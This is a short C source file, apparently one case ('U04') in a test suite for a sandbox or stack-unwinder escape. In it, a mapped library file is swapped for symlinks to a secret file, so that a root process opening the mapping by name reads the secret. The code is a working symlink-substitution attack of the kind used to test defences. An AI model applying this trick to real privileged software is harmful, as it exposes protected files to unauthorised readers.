/* U04: the mapped file's name (plain and " (deleted)") becomes a symlink
 * to the secret, a file the code may not read: whoever opens the mapping
 * by its name reads the secret, as root. */
#include "escape.h"
#include "unwind.h"

int attack(int argc, char **argv)
{
	unsigned long base = elf_mapped("lib.so", ESC_GOOD);

	if (!base)
		return result(-1), 1;
	if (unlink("lib.so") < 0 || symlink(ARG("secret"), "lib.so") < 0 ||
	    symlink(ARG("secret"), "lib.so (deleted)") < 0)
		say("symlink: %s", errname(errno));
	deny_from(ARG("secret"), base + ESC_RET);
	say("AFTER");
	return 0;
}
